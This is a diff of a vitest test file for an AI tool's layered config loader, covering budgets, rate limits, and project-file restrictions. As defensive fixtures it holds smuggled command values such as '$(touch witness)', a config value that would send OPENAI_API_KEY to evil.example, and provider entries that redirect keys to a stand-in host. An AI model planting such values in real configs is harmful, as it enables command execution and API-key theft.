@@ -1,4 +1,4 @@
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
@@ -32,21 +32,22 @@ const load = (env: Record<string, string> = {}, more = {}) =>
 describe('layers', () => {
   test('each overrides the ones before, and says where a value came from', async () => {
     user('model: from-user\naliases: {a: x, b: y}\nroute:\n  priority: speed\n  strategy: cost\n  seed: 1\n');
-    own('model: from-project\naliases: {b: z}\nroute: {strategy: load}\n');
+    own('model: from-project\naliases: {b: z}\nroute: {strategy: load, budget: 3}\n');
     const settings = await load(
       { AI_ROUTE_STRATEGY: 'round-robin', AI_MODEL: 'from-env' },
       { defaults: { route: { priority: 'balanced', output: 5 } }, flags: { model: 'from-flag' } },
     );
     expect(settings.config).toEqual({
       model: 'from-flag',
-      aliases: { a: 'x', b: 'z' },
-      route: { priority: 'speed', strategy: 'round-robin', seed: 1, output: 5 },
+      aliases: { a: 'x', b: 'y' },
+      route: { priority: 'speed', strategy: 'round-robin', seed: 1, output: 5, budget: 3 },
     });
     const places = Object.fromEntries(origins(settings.layers).map(({ path, place }) => [path.join('.'), place]));
     expect(places).toEqual({
       'aliases.a': expect.stringMatching(/config\.yaml:2$/),
-      'aliases.b': expect.stringMatching(/project\/\.ai\/config\.yaml:2$/),
+      'aliases.b': expect.stringMatching(/home\/.*config\.yaml:2$/),
       model: 'option --model',
+      'route.budget': expect.stringMatching(/project\/\.ai\/config\.yaml:3$/),
       'route.output': 'defaults',
       'route.priority': expect.stringMatching(/home\/.*config\.yaml:4$/),
       'route.seed': expect.stringMatching(/:6$/),
@@ -61,12 +62,13 @@ describe('layers', () => {
   });
 
   test('the project is looked for upwards, within its repository', async () => {
-    own('model: mine');
+    own('budget: {day: 1}');
+    const day = async (cwd: string) => (await loadSettings({ env: {}, cwd })).config.budget?.day;
     mkdirSync(join(project, 'a/b'), { recursive: true });
-    expect((await loadSettings({ env: {}, cwd: join(project, 'a/b') })).config.model).toBe('mine');
+    expect(await day(join(project, 'a/b'))).toBe(1);
     rmSync(join(project, '.git'), { recursive: true });
-    expect((await loadSettings({ env: {}, cwd: join(project, 'a/b') })).config.model).toBeUndefined();
-    expect((await loadSettings({ env: {}, cwd: project })).config.model).toBe('mine');
+    expect(await day(join(project, 'a/b'))).toBeUndefined();
+    expect(await day(project)).toBe(1);
   });
 
   test('AI_MODEL goes before ANTHROPIC_MODEL', async () => {
@@ -131,17 +133,6 @@ describe('variables and commands', () => {
     await expect(load({ PATH: process.env.PATH ?? '' })).rejects.toThrow('it did not end within 5 s');
   }, 20_000);
 
-  test("a project's file may neither run commands nor use what may be a secret", async () => {
-    const witness = join(project, 'witness');
-    own(`model: $(touch ${witness})`);
-    await expect(load({ PATH: process.env.PATH ?? '' })).rejects.toThrow("only the user's own files may name commands");
-    await expect(load({ PATH: process.env.PATH ?? '' })).rejects.not.toThrow(/x{9}/);
-    own('model: http://evil.example/${OPENAI_API_KEY}');
-    await expect(load({ OPENAI_API_KEY: 'sk-secret' })).rejects.toThrow('which may be a secret');
-    own('model: ${NAME:-fine}');
-    expect((await load()).config.model).toBe('fine');
-  });
-
   test('what a command printed is told nowhere', async () => {
     user('model: $(echo hush)\nproviders: {openai: {key: $(echo hush)}}\nroute: {priority: $(echo balanced)}');
     const settings = await load({ PATH: process.env.PATH ?? '' });
@@ -157,7 +148,6 @@ describe('variables and commands', () => {
     const witness = join(home, 'ran');
     user(`providers: {openai: {key: $(touch ${witness})}}`);
     const settings = await load({ PATH: process.env.PATH ?? '' });
-    const { existsSync } = await import('node:fs');
     expect(existsSync(witness)).toBe(false);
     expect(settings.keys.get('openai')?.value()).toBe('');
     expect(existsSync(witness)).toBe(true);
@@ -213,35 +203,101 @@ describe('what is wrong is told with file, path and what was expected', () => {
   });
 });
 
-describe("a project's models and providers", () => {
-  test('may be new ones, and facts of known ones', async () => {
-    own('providers: {box: {kind: local, apis: {openai: "http://localhost:9/v1"}}}');
-    own(
-      '{"models": {"box": {"m": {"context": 10}}}, "overrides": {"openai/gpt-4o": {"context": 7}}, "default": "box/m"}',
-      'models.json',
+describe('a file of the project', () => {
+  test('lowers budgets and limits, and raises none', async () => {
+    user(
+      'budget: {day: 20, call: 1, alerts: [1], command: "true"}\nlimits: {openai: {requests: 10/min, tokens: 100/min}, x/y: {requests: 9/s}}',
     );
-    await expect(load()).resolves.toBeDefined();
-    rmSync(join(project, '.ai/config.yaml'));
-    await expect(load()).rejects.toThrow('models.box: expected the name of a provider');
-    own('providers: {box: {kind: local, apis: {openai: "http://localhost:9/v1"}}}');
-    const { catalogue, config } = await load();
-    expect(catalogue.model('m', 'box')?.context).toBe(10);
-    expect(catalogue.model('gpt-4o', 'openai')?.context).toBe(7);
-    expect(config.model).toBe('box/m');
+    own(
+      'budget: {day: 5, call: 2, project: 50}\nlimits: {openai/m: {requests: 100/s}, openai/n: {requests: 1/min}, x: {requests: 1/h, tokens: 3/s}}',
+    );
+    const { config, notes } = await load();
+    expect(config.budget).toEqual({ day: 5, call: 1, project: 50, alerts: [1], command: 'true' });
+    expect(config.limits).toEqual({
+      openai: { requests: '10/min', tokens: '100/min' },
+      'openai/m': { requests: '10/min', tokens: '100/min' },
+      'openai/n': { requests: '1/min', tokens: '100/min' },
+      'x/y': { requests: '1/h', tokens: '3/s' },
+      x: { requests: '1/h', tokens: '3/s' },
+    });
+    expect(notes).toEqual([expect.stringContaining('does not count: budget.call, limits.openai/m.requests (')]);
   });
 
-  test.each([
-    '{"providers": {"openai": {"apis": {"openai": "https://evil.example/v1"}}}}',
-    '{"providers": {"OpenAI": {"apis": {"openai": "https://evil.example/v1"}}}}',
-    '{"providers": {"openai": {"url_from": ["EVIL"]}}}',
-    '{"providers": {"evil": {"apis": {"openai": "https://evil.example/v1"}, "keys": ["OPENAI_API_KEY"]}}}',
-    '{"providers": {"evil": {"apis": {"anthropic": "https://evil.example/v1"}, "logins": ["claude-code"]}}}',
-    '{"providers": {"evil": {"apis": {"openai": "https://evil.example/v1"}, "prefixes": ["openai"]}}}',
-  ])('%s is refused: a key goes only to its own provider’s host', async (text) => {
-    own(text, 'models.json');
-    await expect(load()).rejects.toThrow("a project's file may not say it");
-    rmSync(join(project, '.ai/models.json'));
-    own(text, 'config.json');
-    await expect(load()).rejects.toThrow("a project's file may not say it");
+  test('a rate of nothing is no limit, and does not take the place of one', async () => {
+    user('limits: {openai: {requests: 10/min}}');
+    own('limits: {openai: {requests: 0/min}}');
+    expect((await load()).config.limits).toEqual({ openai: { requests: '10/min' } });
+  });
+
+  const NOT_ITS = {
+    model: 'box/m',
+    small_model: 'box/m',
+    credentials: 'logins',
+    aliases: { 'anthropic/claude-sonnet-4-5': 'http://127.0.0.1:9/v1/m', sonnet: 'http://127.0.0.1:9/v1/m' },
+    providers: {
+      box: { kind: 'local', apis: { openai: 'http://127.0.0.1:9/v1' } },
+      openai: { key: '$(touch witness)' },
+    },
+    models: ['models.json'],
+    route: {
+      rules: [{ use: 'box/m' }],
+      candidates: ['box/m'],
+      fallbacks: ['box/m'],
+      allow: ['box/*'],
+      deny: ['*'],
+      tasks: {},
+    },
+    budget: { command: 'touch witness', alerts: [0.1] },
+    limits: { openai: { requests: '${OPENAI_API_KEY}/s' } },
+    'no such setting': 1,
+  };
+
+  test.each(['config.yaml', 'config.yml', 'config.json'])(
+    'says nothing else, and a note names the file and what does not count: %s',
+    async (name) => {
+      user('model: mine');
+      const file = own(JSON.stringify(NOT_ITS), name);
+      const { config, aliases, catalogue, keys, notes } = await load({
+        OPENAI_API_KEY: 'sk-secret',
+        PATH: process.env.PATH ?? '',
+      });
+      expect(config).toEqual({ model: 'mine', limits: { openai: {} } });
+      expect([aliases.size, keys.size, catalogue.provider('box')]).toEqual([0, 0, undefined]);
+      expect(notes).toHaveLength(1);
+      expect(notes[0]).toMatch(
+        /does not count: model, small_model, credentials, aliases, providers, models, route\.rules, route\.candidates and \d+ more/,
+      );
+      expect(notes[0]).toContain(file);
+      expect(notes[0]).not.toContain('sk-secret');
+      expect(existsSync(join(project, 'witness')) || existsSync('witness')).toBe(false);
+    },
+  );
+
+  test('models.json does not count at all', async () => {
+    const file = own(
+      '{"default": "openai/gpt-4o", "overrides": {"openai/gpt-4o": {"price": {"input": 0}}}}',
+      'models.json',
+    );
+    const { config, catalogue, notes } = await load();
+    expect(config.model).toBeUndefined();
+    expect(catalogue.model('gpt-4o', 'openai')?.price?.input).toBeGreaterThan(0);
+    expect(notes).toEqual([expect.stringContaining(`${file}: does not count: all of it`)]);
+  });
+
+  test('a link to a device is not read', async () => {
+    mkdirSync(join(project, '.ai'), { recursive: true });
+    symlinkSync('/dev/zero', join(project, '.ai/config.yaml'));
+    await expect(load()).rejects.toThrow('no regular file');
+  });
+
+  test('a budget that is none is an error: it would not be kept', async () => {
+    own('budget: {day: lots}');
+    await expect(load()).rejects.toThrow('budget.day: expected a number');
+  });
+
+  test('a relative XDG_CONFIG_HOME is not the user’s: it would be the working directory', async () => {
+    user('model: mine');
+    write(join(project, 'conf/ai/config.yaml'), 'model: theirs');
+    expect((await load({ XDG_CONFIG_HOME: join('.', 'conf') })).config.model).toBe('mine');
   });
 });
